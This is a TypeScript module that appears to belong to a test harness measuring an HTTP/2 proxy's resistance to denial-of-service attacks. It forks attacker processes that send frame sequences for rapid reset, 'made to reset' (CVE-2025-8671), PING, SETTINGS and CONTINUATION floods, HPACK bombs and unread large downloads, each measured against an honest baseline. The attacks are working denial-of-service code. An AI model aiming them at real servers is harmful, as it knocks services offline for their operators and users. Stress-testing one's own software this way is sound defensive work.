/** Attackers in a process of their own, one connection after the other, until the process is ended. */
import { fork } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { constants, setPriority } from 'node:os';
import { fileURLToPath } from 'node:url';
import {
  continuation,
  END_HEADERS,
  END_STREAM,
  field,
  get,
  headers,
  INITIAL_WINDOW,
  OPEN,
  PING,
  requestBlock,
  rst,
  settings,
  windowUpdate,
} from '../kit/frames.ts';
import { until } from '../kit/proxy.ts';
import { FramePeer } from './peer.ts';

const FILE = fileURLToPath(import.meta.url);
const LARGE = field('x', 'y'.repeat(3_900), 0x40);
const BOMB = Buffer.concat([requestBlock('GET', '/'), LARGE, Buffer.alloc(10_000, 0x80 | 62)]);

/** Frames of the `i`th step on one connection. */
export const ATTACKS: Readonly<Record<string, (i: number) => Buffer>> = {
  'rapid reset': (i) => Buffer.concat([get(2 * i + 1), rst(2 * i + 1)]),
  'made to reset (CVE-2025-8671)': (i) => Buffer.concat([get(2 * i + 1), windowUpdate(2 * i + 1, 0)]),
  PING: () => PING,
  SETTINGS: () => settings(),
  CONTINUATION: (i) =>
    i === 0 ? headers(1, requestBlock('GET', '/'), OPEN) : continuation(1, Buffer.alloc(0)),
  'HPACK bombs': (i) => headers(2 * i + 1, BOMB, END_HEADERS | END_STREAM),
  'a hundred answers of 1 GB, not read': (i) => (i < 100 ? get(2 * i + 1, '/big') : Buffer.alloc(0)),
};

/** What as many connections cost without an attack: the measure for all others, where proxy and attacker share processors. */
export const HONEST = 'no attack, a connection per request';
/** What an attacker costs that never reaches the proxy: its connections are reset by a server of its own. */
export const ELSEWHERE = 'the attacker is reset elsewhere';

export interface Attacker {
  /** Connections that were opened, and attempts that were refused before that. */
  readonly connections: number;
  readonly refused: number;
  stop(): Promise<void>;
}

/**
 * Begins an attack from this address; resolves when its first connection has been tried. `polite`: it has the lowest priority,
 * so that it takes no processor from whom it attacks, as one on another machine does not.
 */
export async function startAttacker(
  name: string,
  port: number,
  from: string,
  polite: boolean,
): Promise<Attacker> {
  const bare = name === ELSEWHERE ? fork(FILE, ['server']) : null;
  const target = bare === null ? port : ((await once(bare, 'message')) as [number])[0];
  const child = fork(FILE, [name, String(target), from]);
  if (polite) setPriority(child.pid as number, constants.priority.PRIORITY_LOW);
  const counted = { connections: 0, refused: 0 };
  child.on('message', (counts: typeof counted) => Object.assign(counted, counts));
  await once(child, 'message');
  return {
    get connections() {
      return counted.connections;
    },
    get refused() {
      return counted.refused;
    },
    async stop() {
      for (const each of bare === null ? [child] : [child, bare]) {
        each.kill('SIGKILL');
        await once(each, 'exit');
      }
    },
  };
}

function serve(): void {
  const server = createServer({ pauseOnConnect: true }, (socket) => socket.resetAndDestroy());
  server.listen(0, '127.0.0.1', () => process.send?.((server.address() as { port: number }).port));
}

interface Counts {
  connections: number;
  refused: number;
}

async function askHonestly(port: number, from: string, counts: Counts): Promise<void> {
  for (;;) {
    const peer = await FramePeer.connectFrom(from, port);
    peer.send(get(1));
    await until(() => peer.ended(1), 'an answer');
    peer.destroy();
    counts.connections++;
    process.send?.(counts);
  }
}

async function attack(name: string, port: number, from: string): Promise<void> {
  const counts = { connections: 0, refused: 0 };
  if (name === HONEST) return askHonestly(port, from, counts);
  const step = ATTACKS[name] ?? (ATTACKS.PING as (i: number) => Buffer);
  let toldMs = 0;
  for (;;) {
    const peer = await FramePeer.connectFrom(from, port, INITIAL_WINDOW, 0).catch(() => null);
    if (peer === null) counts.refused++;
    else counts.connections++;
    if (performance.now() > toldMs + 50) {
      toldMs = performance.now();
      process.send?.(counts);
    }
    if (peer === null) continue;
    for (let i = 0; !peer.closed && peer.goaway === '' && i < 100_000; i += 100) {
      const bytes = Buffer.concat(Array.from({ length: 100 }, (_, j) => step(i + j)));
      if (bytes.length > 0) await peer.sent(bytes);
      else await peer.untilClosed().catch(() => {});
      await new Promise((resolve) => setImmediate(resolve));
    }
    peer.destroy();
  }
}

if (import.meta.main) {
  const [name = '', port, from = ''] = process.argv.slice(2);
  process.once('disconnect', () => process.exit());
  if (name === 'server') serve();
  else await attack(name, Number(port), from);
}
